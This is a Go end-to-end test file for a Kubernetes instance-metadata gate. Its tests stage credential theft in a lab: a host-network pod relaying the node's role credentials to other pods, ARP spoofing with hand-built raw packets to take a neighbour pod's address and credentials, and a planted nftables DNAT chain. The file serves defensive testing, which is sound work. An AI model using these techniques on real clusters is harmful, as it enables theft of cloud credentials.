package hostile

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/imdsgate/imdsgate/e2e/imds"
	"github.com/imdsgate/imdsgate/e2e/lab"
	"github.com/imdsgate/imdsgate/e2e/labtest"
)

// What follows works. Each test asserts that it does, so that the documentation stays true, and what stops it.

// nodeCredentials asks the real endpoint as an SDK does, over the client.
func nodeCredentials(t testing.TB, client *http.Client, base string) (string, error) {
	t.Helper()
	step := func(method, path string, header http.Header) (string, error) {
		req, err := http.NewRequestWithContext(labtest.Context(t), method, base+path, nil)
		if err != nil {
			return "", err
		}
		req.Header = header
		resp, err := client.Do(req)
		if err != nil {
			return "", err
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err == nil && resp.StatusCode != http.StatusOK {
			err = fmt.Errorf("%s %s: %d", method, path, resp.StatusCode)
		}
		return string(body), err
	}
	token, err := step(http.MethodPut, "/latest/api/token", http.Header{"X-Aws-Ec2-Metadata-Token-Ttl-Seconds": {"60"}})
	if err != nil {
		return "", err
	}
	return step(http.MethodGet, list+"/"+lab.NodeRole, http.Header{"X-Aws-Ec2-Metadata-Token": {token}})
}

// A pod in the node's network is the node to every rule, and so is whoever it passes on requests for. Only what may be in the
// node's network decides. (S14)
func TestLimitHostNetwork(t *testing.T) {
	t.Parallel()
	s := newStage(t, lab.NodeOptions{IPv4Only: true})
	p := labtest.Pod(t, s.Node, lab.PodSpec{Namespace: s.namespace, ServiceAccount: "victim", HostNetwork: true})
	if body, err := nodeCredentials(t, p.HTTP(), "http://"+endpoint); err != nil || s.stolen(p, body) == nil {
		t.Errorf("a host network pod no longer gets the node's credentials: %v %s", err, body)
	}
	// It has no pod's, whichever role its service account has.
	if c := tryDial(t, p, at(s.IP, 8254)); c != nil {
		t.Error("a host network pod connects to the pod-facing port")
	}
	// A relay that it runs serves pods.
	ln, err := s.Net.Listen(labtest.Context(t), "tcp", at(s.IP, 3128))
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			in, err := ln.Accept()
			if err != nil {
				return
			}
			out, err := p.Dial(t.Context(), "tcp", endpoint)
			if err != nil {
				in.Close()
				return
			}
			go func() { _, _ = io.Copy(out, in); out.Close() }()
			go func() { _, _ = io.Copy(in, out); in.Close() }()
		}
	}()
	if body, err := nodeCredentials(t, s.mallory.HTTP(), "http://"+at(s.IP, 3128)); err != nil || s.stolen(s.mallory, body) == nil {
		t.Errorf("through the node's network a pod no longer gets the node's credentials: %v %s", err, body)
	}
}

// A probe or a lifecycle hook with a host is asked by the kubelet, in the node's network. It can only GET, it does not follow
// redirects to other hosts, and its answer is a bit: with IMDSv2 required it is 401 whatever the path.
func TestLimitKubeletProbe(t *testing.T) {
	t.Parallel()
	s := newStage(t, lab.NodeOptions{IPv4Only: true})
	kubelet := labtest.Pod(t, s.Node, lab.PodSpec{HostNetwork: true}).HTTP()
	for _, path := range []string{"/latest/user-data", list + "/" + lab.NodeRole, "/latest/meta-data/"} {
		resp, err := kubelet.Get("http://" + endpoint + path)
		if err != nil {
			t.Fatalf("a probe does not reach the endpoint: %v", err)
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusUnauthorized || len(body) > 0 {
			t.Errorf("a probe of %s is answered %d %s %v, want the endpoint's 401", path, resp.StatusCode, body, err)
		}
	}
}

// On a bridge that pods share, whoever may send packets of its own making (CAP_NET_RAW, which containers have by default) can
// take a neighbour's address, and with it its credentials. Reverse path filtering does not help, because both are behind
// the same interface, nor does a check of hardware addresses (macspoofchk): the thief uses its own. What helps is a link for each
// pod (TestHostileSpoofedSource), neighbours that the node does not learn, or pods without CAP_NET_RAW. The node's
// credentials are out of reach all the same.
func TestLimitBridgeSpoofing(t *testing.T) {
	t.Parallel()
	s := newStage(t, lab.NodeOptions{Network: lab.Bridge, RPFilter: true})
	mac, victimMAC := hardwareAddress(t, s.mallory), hardwareAddress(t, s.victim)
	veth := fmt.Sprintf("veth%d", s.mallory.IPs[0].As4()[3])
	// The rule of the CNI plugin bridge with macspoofchk.
	s.on(t, "nft 'add table bridge spoof; add chain bridge spoof pre { type filter hook prerouting priority -300; }; add rule bridge spoof pre iifname "+veth+" ether saddr != "+mac.String()+" drop'")
	ip := s.victim.IPs[0]
	steal := func() (stolen bool) {
		t.Helper()
		in(t, s.mallory, "ip", "addr", "add", ip.String()+"/32", "dev", "eth0")
		defer in(t, s.mallory, "ip", "addr", "del", ip.String()+"/32", "dev", "eth0")
		for range 10 {
			announce(t, s.mallory, ip, mac)
			err := s.mallory.Net.Do(func() error {
				d := net.Dialer{Timeout: impatient, LocalAddr: &net.TCPAddr{IP: ip.AsSlice()}}
				c, err := d.Dial("tcp", endpoint)
				if err != nil {
					return err
				}
				defer c.Close()
				_, _ = io.WriteString(c, "GET "+list+"/victim-role HTTP/1.0\r\n\r\n")
				answer, err := io.ReadAll(c)
				for _, key := range accessKeys.FindAllString(string(answer), -1) {
					if owner, ok := s.AWS.Owner(key); ok && owner.RoleARN == s.roles[s.victim] {
						stolen = true
					} else {
						t.Errorf("credentials of %+v", owner)
					}
				}
				return err
			})
			if err == nil && stolen {
				return true
			}
		}
		return false
	}
	if !steal() {
		t.Error("a neighbour on a bridge can no longer be impersonated")
	}
	// The node knows where its pods are.
	s.on(t, fmt.Sprintf("ip neigh replace %s lladdr %s dev cni0 nud permanent", ip, victimMAC))
	if steal() {
		t.Error("a neighbour is impersonated although the node has not learned its address")
	}
	s.untouched(t)
}

func hardwareAddress(t testing.TB, p *lab.Pod) (mac net.HardwareAddr) {
	t.Helper()
	err := p.Net.Do(func() error {
		eth0, err := net.InterfaceByName("eth0")
		if err == nil {
			mac = eth0.HardwareAddr
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return mac
}

// announce tells everybody on the link that the address is at the hardware address.
func announce(t testing.TB, p *lab.Pod, ip netip.Addr, mac net.HardwareAddr) {
	t.Helper()
	err := p.Net.Do(func() error {
		eth0, err := net.InterfaceByName("eth0")
		if err != nil {
			return err
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		everybody := unix.SockaddrLinklayer{Protocol: 0x0608, Ifindex: eth0.Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
		var errs []error
		for _, operation := range []byte{1, 2} { // a request and a reply about itself
			b := []byte{0, 1, 8, 0, 6, 4, 0, operation}
			b = append(append(b, mac...), ip.AsSlice()...)
			b = append(append(b, 255, 255, 255, 255, 255, 255), ip.AsSlice()...)
			errs = append(errs, unix.Sendto(fd, b, 0, &everybody))
		}
		return errors.Join(errs...)
	})
	if err != nil {
		t.Fatal(err)
	}
}

// A hop limit of 1 is the floor below both locks: an answer to the token PUT does not get past the node, so that a data path
// that skips the routing rules (flowtable offload, eBPF, IPVS) yields no token to a pod.
func TestLimitHopLimit(t *testing.T) {
	shared.IMDS.SetHopLimit(1)
	defer shared.IMDS.SetHopLimit(2)
	n := labtest.Node(t, shared, lab.NodeOptions{IPv4Only: true}) // without a daemon
	p := labtest.Pod(t, n, lab.PodSpec{})
	c := mustDial(t, p, at(imds.IPv4, 80))
	_, _ = io.WriteString(c, "PUT /latest/api/token"+v1+host+ttl+"60\r\nContent-Length: 0\r\n\r\n")
	_ = c.SetReadDeadline(time.Now().Add(time.Second))
	b := make([]byte, 1<<10)
	if n, err := c.Read(b); err == nil {
		t.Errorf("a pod gets a token: %s", b[:n])
	}
}

// A nat chain of nftables' own that is made later than ours is asked first at the same priority, and iptables does not show it. The
// portmap plugin's nftables back end makes one that leads port 80 of every address to the pod with that host port.
func TestLimitForeignChain(t *testing.T) {
	t.Parallel()
	ctx := labtest.Context(t)
	s := newStage(t, lab.NodeOptions{IPv4Only: true})
	ln, err := s.mallory.Net.Listen(ctx, "tcp", at(s.mallory.IPs[0], 8080))
	if err != nil {
		t.Fatal(err)
	}
	app := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "hello") })}
	go func() { _ = app.Serve(ln) }()
	defer app.Close()
	s.on(t, "nft 'add table ip hostports; add chain ip hostports pre { type nat hook prerouting priority dstnat; };"+
		" add rule ip hostports pre tcp dport 80 dnat to "+at(s.mallory.IPs[0], 8080)+"'")
	s.victim.HTTP().CloseIdleConnections() // what is open stays where it leads
	if got, err := ask(ctx, s.victim, http.MethodGet, list+"/", nil); err != nil || got != "hello" {
		t.Errorf("another pod is answered %q, %v", got, err)
	}
	s.on(t, "nft delete table ip hostports")
	s.victim.HTTP().CloseIdleConnections()
	if err := s.own(ctx, s.victim); err != nil {
		t.Error(err)
	}
	s.untouched(t)
}
